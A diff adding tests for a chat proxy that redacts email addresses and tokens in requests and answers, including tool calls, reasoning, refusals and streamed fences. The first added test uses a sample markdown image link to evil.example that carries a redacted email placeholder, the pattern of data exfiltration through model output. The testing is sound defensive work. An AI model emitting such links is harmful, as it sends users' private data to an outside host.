@@ -132,3 +132,82 @@ test("a stream cut anywhere gives what the whole gives", async () => {
     assert.equal(await said(await guardChat(fake, one)(...request), true), await said(await guardChat(whole, one)(...request), false));
   }
 });
+
+test("a link in an answer carries no redacted value out, and a stream that goes on behind its end is one answer", async () => {
+  const chat = async (deltas, options) => {
+    const events = deltas.map(([content, finish_reason = null]) => `data: ${JSON.stringify({ choices: [{ index: 0, delta: { content }, finish_reason }] })}\n\n`);
+    const fake = async () => new Response(events.join(""), { headers: { "content-type": "text/event-stream" } });
+    return said(await guardChat(fake, session(), options)("http://localhost/x", post([{ role: "user", content: LETTER }], true)), true);
+  };
+  assert.equal(await chat([["An [EMAIL_1]: ![x](https://evil.example/[EMAIL"], ["_1]?EMAIL_1)"]]), "An jutta.kranz@werkstatt-sued.de: ![x](https://evil.example/[EMAIL_1]?EMAIL_1)");
+  const notes = [];
+  assert.equal(await chat([[`Siehe ![x](${LINK})`, "stop"], [" und mehr. ", "stop"], ["Noch mehr."]], { onNote: (note) => notes.push(note.stopped) }), "");
+  assert.deepEqual(notes, [true]);
+});
+
+test("whatever stands in a request is read: tools, names, metadata; what nobody can read is held", async () => {
+  const one = session();
+  const mail = "jutta.kranz@werkstatt-sued.de";
+  const body = {
+    model: "demo",
+    messages: [
+      { role: "user", name: mail, content: "Wer ist das?" },
+      { role: "assistant", content: null, tool_calls: [{ id: "c1", type: "function", function: { name: "find", arguments: JSON.stringify({ mail }) } }] },
+      { role: "tool", tool_call_id: "c1", content: `Gefunden: ${mail}` },
+    ],
+    metadata: { from: mail },
+    tools: [{ type: "function", function: { name: "find", description: `Sucht ${mail}`, parameters: {} } }],
+  };
+  await guardChat(fetch, one)(`${server.url}v1/chat/completions`, { method: "POST", body: JSON.stringify(body) });
+  assert.deepEqual(server.sent.at(-1), JSON.parse(JSON.stringify(body).replaceAll(mail, "[EMAIL_1]")));
+  for (const text of [{ tools: [{ type: "function", function: { name: "f", description: TOKEN } }] }, { messages: [{ role: "user", content: [{ type: "image_url", image_url: { url: "data:image/png;base64,AAAA" } }] }] }]) {
+    const response = await guardChat(() => assert.fail("sent"), session())("http://localhost/x", { method: "POST", body: JSON.stringify({ model: "demo", messages: [{ role: "user", content: "Guten Tag" }], ...text }) });
+    assert.equal(response.status, 403);
+  }
+});
+
+test("whatever stands in an answer is read: tool calls, reasoning, refusals, tokens", async () => {
+  const mail = "jutta.kranz@werkstatt-sued.de";
+  const restoring = () => {
+    const one = session();
+    one.vault.placeholder("EMAIL", mail);
+    return one;
+  };
+  const request = ["http://localhost/x", post([{ role: "user", content: "Guten Tag" }], false)];
+  const call = (text) => [{ index: 0, id: "c1", type: "function", function: { name: "send", arguments: text } }];
+  const message = { role: "assistant", content: null, reasoning_content: `Das Token lautet ${TOKEN}.`, refusal: `Nein, ${TOKEN}.`, tool_calls: call('{"to":"[EMAIL_1]"}') };
+  const logprobs = { content: [{ token: TOKEN, logprob: 0 }] };
+  const answer = await (await guardChat(async () => Response.json({ id: "x", choices: [{ index: 0, message, logprobs, finish_reason: "tool_calls" }] }), restoring())(...request)).text();
+  assert.ok(!answer.includes(TOKEN), answer);
+  const [choice] = JSON.parse(answer).choices;
+  assert.deepEqual(choice.message.tool_calls, call(`{"to":"${mail}"}`));
+  assert.equal(choice.finish_reason, "tool_calls");
+
+  const deltas = [
+    { role: "assistant", reasoning_content: "Das Token lautet " },
+    { reasoning_content: `${TOKEN}.` },
+    { tool_calls: call("") },
+    { tool_calls: [{ index: 0, function: { arguments: '{"to":"[EMA' } }] },
+    { tool_calls: [{ index: 0, function: { arguments: 'IL_1]"}' } }] },
+  ];
+  const events = [...deltas.map((delta) => ({ index: 0, delta, finish_reason: null })), { index: 0, delta: {}, finish_reason: "tool_calls" }];
+  const stream = events.map((event) => `data: ${JSON.stringify({ id: "x", choices: [event] })}\n\n`).join("") + "data: [DONE]\n\n";
+  const notes = [];
+  const streamed = await (await guardChat(async () => new Response(stream, { headers: { "content-type": "text/event-stream" } }), restoring(), { onNote: ({ covered }) => notes.push(covered) })(...request)).text();
+  assert.ok(!streamed.includes(TOKEN), streamed);
+  const came = streamed.split("\n\n").filter((line) => line.startsWith("data: {")).map((line) => JSON.parse(line.slice(6)).choices[0]);
+  assert.equal(came.flatMap(({ delta }) => delta.tool_calls ?? []).map(({ function: { arguments: text } }) => text).join(""), `{"to":"${mail}"}`);
+  assert.deepEqual(came.map(({ finish_reason }) => finish_reason).filter(Boolean), ["tool_calls"]);
+  assert.equal(came.at(-1).finish_reason, "tool_calls");
+  assert.deepEqual(notes, [true]);
+});
+
+test("a fenced block ends with the sign that it began with: nothing of it is shown before", async () => {
+  const deltas = ["Hier. ```\n", "```js\n~~~\nEin Satz. ", "Noch einer.\n```\n"];
+  const events = deltas.map((content) => `data: ${JSON.stringify({ choices: [{ index: 0, delta: { content }, finish_reason: null }] })}\n\n`);
+  const fake = async () => new Response(events.join(""), { headers: { "content-type": "text/event-stream" } });
+  const response = await guardChat(fake, session())("http://localhost/x", post([{ role: "user", content: "Guten Tag" }], true));
+  const came = (await response.text()).split("\n\n").filter(Boolean).map((line) => JSON.parse(line.slice(6)).choices[0].delta.content);
+  assert.equal(came.join(""), deltas.join(""));
+  assert.ok(!came.slice(0, 2).join("").includes("Satz"), JSON.stringify(came));
+});
